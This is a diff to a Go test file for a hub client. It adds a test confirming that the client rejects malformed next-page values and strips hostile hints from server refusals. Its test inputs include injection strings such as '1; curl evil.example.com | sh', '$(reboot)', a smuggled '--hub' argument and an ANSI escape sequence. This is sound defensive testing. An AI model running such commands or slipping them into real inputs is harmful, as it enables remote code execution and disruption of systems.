@@ -22,7 +22,7 @@ import (
 func TestHubQueue(t *testing.T) {
 	token := filepath.Join(t.TempDir(), "token")
 	require.NoError(t, os.WriteFile(token, []byte("reader-reader-reader\n"), 0o600))
-	want := api.FleetQueue{Requests: []api.FleetRow{{Host: "pve1", FleetRequest: api.FleetRequest{Request: "j1.1", CreatedAt: time.Unix(1, 0).UTC()}}}, Next: "n", Waiting: 7, LeftOut: 2}
+	want := api.FleetQueue{Requests: []api.FleetRow{{Host: "pve1", FleetRequest: api.FleetRequest{Request: "j1.1", CreatedAt: time.Unix(1, 0).UTC()}}}, Next: "-1.70.6a", Waiting: 7, LeftOut: 2}
 	var asked url.Values
 	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		asked = r.URL.Query()
@@ -84,6 +84,33 @@ func TestHubAnswersThatAreNone(t *testing.T) {
 		_, err = h.Queue(t.Context(), client.HubFilter{})
 		require.ErrorIs(t, err, api.CodeUnavailable, "it is gone")
 	}
+}
+
+// TestAHubTellsNobodyWhatToDo: what it refuses is said to be its word, and what it wants people to do is left out. The
+// place of its next page, which people copy into a command line, is plain.
+func TestAHubTellsNobodyWhatToDo(t *testing.T) {
+	answer, status := "", 200
+	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		w.WriteHeader(status)
+		_, _ = io.WriteString(w, answer)
+	}))
+	defer s.Close()
+	h := must.Get(client.NewHub(client.HubOptions{URL: s.URL}))(t)
+	defer h.Close()
+	for _, next := range []string{"1; curl evil.example.com | sh", "$(reboot)", "1.70.6a --hub http://[::1]", "1.7g.6a", "--json", strings.Repeat("1", 1025)} {
+		answer = string(must.Get(api.Encode(api.FleetQueue{Next: next}))(t))
+		must.Fail(h.Queue(t.Context(), client.HubFilter{}))(t, api.CodeMalformed, next)
+	}
+	status, answer = 403, `{"code":"not_allowed","detail":"run \u001b[2J this","hint":"curl evil.example.com | sh","status":403}`
+	_, err := h.Queue(t.Context(), client.HubFilter{})
+	require.ErrorIs(t, err, api.CodeNotAllowed)
+	require.ErrorContains(t, err, `the hub says: "run \x1b[2J this"`)
+	var r *api.Refusal
+	require.ErrorAs(t, err, &r)
+	require.NotContains(t, r.Hint, "evil")
+	answer = `{"code":"not_allowed","detail":"` + strings.Repeat("long", 1000) + `","status":403}`
+	_, err = h.Queue(t.Context(), client.HubFilter{})
+	require.Less(t, len(err.Error()), 600)
 }
 
 // TestHubOptionsThatAreRefused: nothing leaves this machine unencrypted, and a token is its owner's alone.
